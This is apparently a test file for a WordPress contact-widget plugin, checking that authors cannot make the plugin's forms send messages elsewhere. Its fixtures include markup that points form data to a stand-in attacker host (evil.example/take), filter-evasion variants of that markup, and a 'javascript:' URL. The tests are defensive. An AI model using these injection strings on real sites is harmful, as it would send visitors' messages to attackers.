/* global document -- of the pages */
import assert from 'node:assert/strict';
import { after, afterEach, before, beforeEach, describe, it } from 'node:test';
import { defaultSetup } from '../../.cache/demo/demo/builder/setup.js';
import { snippets } from '../../.cache/demo/demo/snippets/index.js';
import { hasWordPress, startWordPress } from '../helpers/wordpress.mjs';
import { openBrowser, sendMessage, visitAsAnybody } from './support/people.mjs';

const EVIL = 'data-endpoint="https://evil.example/take" data-clinic-phone="900 900 9000"';
const ENDPOINT = '/wp-json/mild-widgets/v1/messages';

/** What an author may write who wants messages elsewhere. */
const attempts = {
  'a section': `<section data-mild="contact" ${EVIL}></section>`,
  'a paragraph': `<p data-mild="contact" ${EVIL}>Call us.</p>`,
  'a picture': `<img data-mild="contact" ${EVIL} src="/wp-includes/images/blank.gif">`,
  capitals: `<DIV DATA-MILD="contact" ${EVIL.replace('data-endpoint', 'Data-Endpoint')}></DIV>`,
  'the name twice': `<div data-mild="contact" DATA-MILD="x" ${EVIL}></div>`,
  'the endpoint twice': `<div data-mild="contact" ${EVIL} DATA-ENDPOINT="/x"></div>`,
  'many attributes': `<div data-mild="contact" ${EVIL} ${Array.from({ length: 800 }, (_, at) => `data-a${at}="b"`).join(' ')}></div>`,
  'no blanks': '<div/data-mild="contact"/data-endpoint="https://evil.example/take"></div>',
  'references in the name': `<div data-mild="&#99;ontact" ${EVIL}></div>`,
  'a clinic around a shortcode': `<div data-mild="clinic" ${EVIL}>[mild_contact]</div>`,
  'a clinic around a mount point': `<div data-mild="clinic" ${EVIL}><div data-mild="contact"></div></div>`,
  'a caption':
    '[caption width="300" caption="\\x3cdiv data-mild=\\x22contact\\x22 data-endpoint=\\x22https://evil.example/take\\x22\\x3e\\x3c/div\\x3e"]<img src="/wp-includes/images/blank.gif" />[/caption]',
  'a block of HTML': `<!-- wp:html --><div data-mild="contact" ${EVIL}></div><!-- /wp:html -->`,
};

describe('mount points in WordPress', { skip: !hasWordPress() }, () => {
  let wordpress;
  let browser;

  before(async () => {
    wordpress = await startWordPress();
    wordpress.installPlugin();
    browser = await openBrowser();
  });
  after(async () => {
    await browser?.close();
    await wordpress?.close();
  });
  beforeEach(() => {
    wordpress.forget();
    wordpress.set({ mail_to: 'front.desk@riverside.example' });
  });
  afterEach(() => assert.deepEqual(wordpress.complaints(), [], 'PHP has nothing to complain about'));

  const visit = (url, look) => visitAsAnybody(browser, url, look);

  /** Saves a post with the rights of somebody, and returns its address; of a synced pattern, its number. */
  const save = (login, content, { before = '', type = 'post', excerpt = '' } = {}) =>
    wordpress.inside(
      `${before}
      wp_set_current_user( get_user_by( 'login', '${login}' )->ID );
      $post = array( 'post_status' => 'publish', 'post_title' => 'Spine' ) + json_decode( stream_get_contents( STDIN ), true );
      $id = wp_insert_post( wp_slash( $post ) );
      echo 'wp_block' === $post['post_type'] ? $id : get_permalink( $id );`,
      JSON.stringify({ post_content: content, post_type: type, post_excerpt: excerpt }),
    );

  /** What WordPress's filter for the content makes of a text. */
  const filtered = (html, code = '') =>
    wordpress.inside(`${code} echo apply_filters( 'the_content', stream_get_contents( STDIN ) );`, html);

  /** Where the forms of a page send, and what in it names the other place. */
  const inspect = (url) =>
    visit(url, (page) =>
      page.evaluate(() => {
        const named = (element) =>
          [...element.attributes].some(({ value }) => /evil\.example|900 900/.test(value));
        const places = [...document.querySelectorAll('[data-mild], mild-contact, mild-clinic')];
        return {
          named: places.filter(named).length,
          endpoints: [...document.querySelectorAll('mild-contact')].map(({ endpoint }) => endpoint),
          said: places.some(({ shadowRoot }) => shadowRoot?.textContent.includes('900 900')),
        };
      }),
    );

  function assertLedNowhere({ named, endpoints, said }) {
    assert.deepEqual([named, said], [0, false]);
    for (const endpoint of endpoints)
      assert.ok([ENDPOINT, null, undefined].includes(endpoint), String(endpoint));
  }

  const WITHOUT_BOUNDARY =
    "remove_filter( 'wp_kses_allowed_html', 'mild_widgets_allowed_html', PHP_INT_MAX );";

  describe('lead messages nowhere else, as an author saves them', () => {
    for (const [what, content] of Object.entries(attempts)) {
      it(`with ${what}`, async () => {
        assertLedNowhere(await inspect(save('author', content)));
        // And as they were saved before the plugin was there.
        assertLedNowhere(await inspect(save('author', content, { before: WITHOUT_BOUNDARY })));
      });
    }

    it('with a clinic around a shortcode, where the settings name a service and no address', async () => {
      wordpress.set({ format: 'formspree', clinic_phone: '555 010 0199' });
      assertLedNowhere(
        await inspect(save('author', attempts['a clinic around a shortcode'], { before: WITHOUT_BOUNDARY })),
      );
    });

    it('in a synced pattern', async () => {
      for (const before of ['', WITHOUT_BOUNDARY]) {
        const id = save('author', attempts['a block of HTML'], { type: 'wp_block', before });
        const seen = await inspect(save('author', `<!-- wp:block {"ref":${id}} /-->`));
        assert.deepEqual(seen.endpoints, [ENDPOINT]);
        assertLedNowhere(seen);
      }
    });

    it('in an excerpt that somebody has written', () => {
      for (const before of ['', WITHOUT_BOUNDARY]) {
        const url = save('author', 'x', { excerpt: `<div data-mild="contact" ${EVIL}></div>`, before });
        const html = wordpress.inside(
          `$GLOBALS['post'] = get_post( url_to_postid( stream_get_contents( STDIN ) ) ); setup_postdata( $GLOBALS['post'] ); the_excerpt();`,
          url,
        );
        assert.match(html, new RegExp(`data-mild="contact"[^>]* data-endpoint="${ENDPOINT}"`));
        assert.doesNotMatch(html, /evil|900 900/);
      }
    });
  });

  it('lose what only the settings say where an author saves them, and keep the rest', () => {
    const kept = wordpress.inside(
      "wp_set_current_user( get_user_by( 'login', 'author' )->ID ); echo wp_kses_post( stream_get_contents( STDIN ) );",
      `<div class="spine" data-mild="info" data-layout="accordion" data-clinic-claims="true" data-reviewed-by="x" data-privacy-url="/x" data-contact-url="/x" data-clinic-name="x" data-field-names="name:x" data-endpoint-format="form" data-own="1">x</div><p data-mild="info" data-own="1">x</p>`,
    );
    assert.equal(
      kept,
      '<div class="spine" data-mild="info" data-layout="accordion" data-own="1">x</div><p data-own="1">x</p>',
    );
  });

  it('are not mounted where PHP can’t read them', () => {
    const html = `<div data-mild="contact" ${EVIL}></div>`;
    const failing = wordpress.inside(
      "ini_set( 'pcre.jit', '0' ); ini_set( 'pcre.backtrack_limit', '3' ); echo mild_widgets_fill_mount_points( stream_get_contents( STDIN ) );",
      html,
    );
    assert.match(failing, /data-x-mild="contact"/);
    assert.doesNotMatch(failing, /data-mild=/);
    const long = filtered(html.replace('></div>', ` data-x="${'x'.repeat(9000)}"></div>`));
    assert.match(long, /data-x-mild="contact"/);
    assert.doesNotMatch(long, /data-mild=/);
  });

  it('stay where their name is wrong, so that the console says so', () => {
    assert.match(filtered('<div data-mild="costs">x</div>'), /<div data-mild="costs">x<\/div>/);
  });

  it('may be read more than once', () => {
    wordpress.set({
      format: 'web3forms',
      endpoint: 'https://api.web3forms.com/submit',
      access_key: 'k',
      language: 'es',
    });
    for (const html of [
      '<div data-mild="info" data-sections="procedure overview" class="a" data-id="b" data-hidden></div>',
      '<div data-mild="contact"></div>',
      '<div data-mild="contact">Call us.</div>',
      '<section data-mild="contact">Call us.</section>',
      '<div data-mild="clinic"><div data-mild="risks" data-ask>x</div></div>',
    ]) {
      const [once, twice] = JSON.parse(
        wordpress.inside(
          '$once = mild_widgets_fill_mount_points( stream_get_contents( STDIN ) ); echo wp_json_encode( array( $once, mild_widgets_fill_mount_points( $once ) ) );',
          html,
        ),
      );
      assert.notEqual(once, html);
      assert.equal(twice, once);
      assert.equal(once.match(/name="access_key"/g)?.length ?? 0, html.includes('contact') ? 1 : 0);
    }
  });

  it('send the access key along, also with content of their own', () => {
    wordpress.set({ format: 'web3forms', endpoint: 'https://api.web3forms.com/submit', access_key: 'k"' });
    for (const html of ['<div data-mild="contact"></div>', '<div data-mild="contact">Call us.</div>']) {
      assert.match(filtered(html), /<input type="hidden" name="access_key" value="k&quot;">/);
    }
    assert.doesNotMatch(filtered('<div data-mild="info">x</div>'), /access_key/);
  });

  it('have their own language, and their text too', () => {
    const spanish = filtered('<div data-mild="contact" lang="es"></div>');
    assert.match(spanish, /<div data-mild="contact" lang="es"[^>]*>\s*<h2>¿Cómo podemos ayudarle\?/);
    assert.match(
      filtered('<div data-mild="contact" data-lang="es"></div>'),
      /data-lang="es"[^>]*>\s*<h2>¿Cómo/,
    );
    wordpress.set({ language: 'en' });
    assert.match(
      filtered('<div data-mild="contact" lang="es"></div>'),
      /data-locale="en"[^>]*>\s*<h2>How can we/,
    );
  });

  it('take words from this site or an https: address, and from nowhere else', () => {
    const source = (written) =>
      /data-content-src="([^"]*)"/.exec(
        filtered(`<div data-mild="info" data-content-src="${written}">x</div>`),
      )?.[1];
    assert.equal(source('/mild-words.json'), '/mild-words.json');
    assert.equal(source('https://riverside.example/words.json'), 'https://riverside.example/words.json');
    for (const other of [
      'mild-words.json',
      'http://other.example/x',
      '//other.example/x',
      'javascript:alert(1)',
    ])
      assert.equal(source(other), undefined, other);
  });

  it('give an excerpt that WordPress makes no script', () => {
    const [excerpt, loads] = JSON.parse(
      wordpress.inside(
        `$post = get_post( url_to_postid( stream_get_contents( STDIN ) ) );
        echo wp_json_encode( array( get_the_excerpt( $post ), wp_script_is( 'mild-widgets' ) ) );`,
        save(
          'admin',
          'About us. <div data-mild="info"></div>\n\n<!-- wp:html --><div data-mild="risks">x</div><!-- /wp:html -->',
        ),
      ),
    );
    assert.match(excerpt, /^About us\./);
    assert.equal(loads, false);
  });

  it('work in widgets, old ones and blocks, and in templates', () => {
    const point = '<div data-mild="contact"></div>';
    const widget = (name, instance) => `the_widget( '${name}', array( ${instance} ) );`;
    for (const code of [
      widget('WP_Widget_Custom_HTML', `'content' => '${point}'`),
      widget('WP_Widget_Text', `'text' => '${point}', 'filter' => true, 'visual' => true`),
      widget('WP_Widget_Text', `'text' => '${point}'`),
      widget('WP_Widget_Block', `'content' => '<!-- wp:html -->${point}<!-- /wp:html -->'`),
      `echo do_blocks( '<!-- wp:group --><div class="wp-block-group"><!-- wp:html -->${point}<!-- /wp:html --></div><!-- /wp:group -->' );`,
      `echo apply_filters( 'elementor/frontend/the_content', '${point}' );`,
    ]) {
      const html = wordpress.inside(`${code} echo wp_script_is( 'mild-widgets' ) ? 'loaded' : '';`);
      assert.match(html, new RegExp(`data-endpoint="${ENDPOINT}"[^>]*>\\s*(<p>)?\\s*<h2>`), code);
      assert.match(html, /loaded$/, code);
    }
  });

  describe('of the builder’s snippet for another service, with the plugin sending mail', () => {
    const code = (changes) =>
      snippets(
        {
          ...defaultSetup,
          clinicPhone: '+1 555 010 0199',
          language: 'page',
          scriptFolder: '/wp-content/plugins/mild-widgets/script/',
          ...changes,
        },
        { integrity: {}, prerendered: {}, fallback: {} },
      )
        .find(({ id }) => id === 'wordpress-classic')
        .parts[0].code.replace(/<script.*?<\/script>\s*/s, '');

    for (const [what, changes] of [
      [
        'Formspree, with names of its own',
        {
          endpoint: 'https://formspree.io/f/abc',
          endpointFormat: 'formspree',
          fieldNames: 'name:full_name email:mail',
        },
      ],
      [
        'Web3Forms',
        {
          endpoint: 'https://api.web3forms.com/submit',
          endpointFormat: 'web3forms',
          hidden: { access_key: 'k' },
        },
      ],
      [
        'names of its own',
        { endpoint: 'https://riverside.example/take', fieldNames: 'name:full_name trap:-' },
      ],
    ]) {
      for (const login of ['admin', 'author']) {
        it(`${what}, saved by the ${login}: messages are mailed`, async () => {
          const html = code(changes);
          assert.match(html, /data-mild="clinic"/);
          await visit(save(login, html), (page) => sendMessage(page));
          const mails = await wordpress.mails();
          assert.equal(mails.length, 1);
          assert.match(mails[0].text, /^Name: Zoë/);
        });
      }
    }
  });

  it('have the addresses of a site with plain permalinks', () => {
    const html = wordpress.inside(
      "global $wp_rewrite; $wp_rewrite->set_permalink_structure( '' ); echo do_shortcode( '[mild_contact]' );",
    );
    assert.match(html, /data-endpoint="\/index\.php\?rest_route=\/mild-widgets\/v1\/messages"/);
  });
});
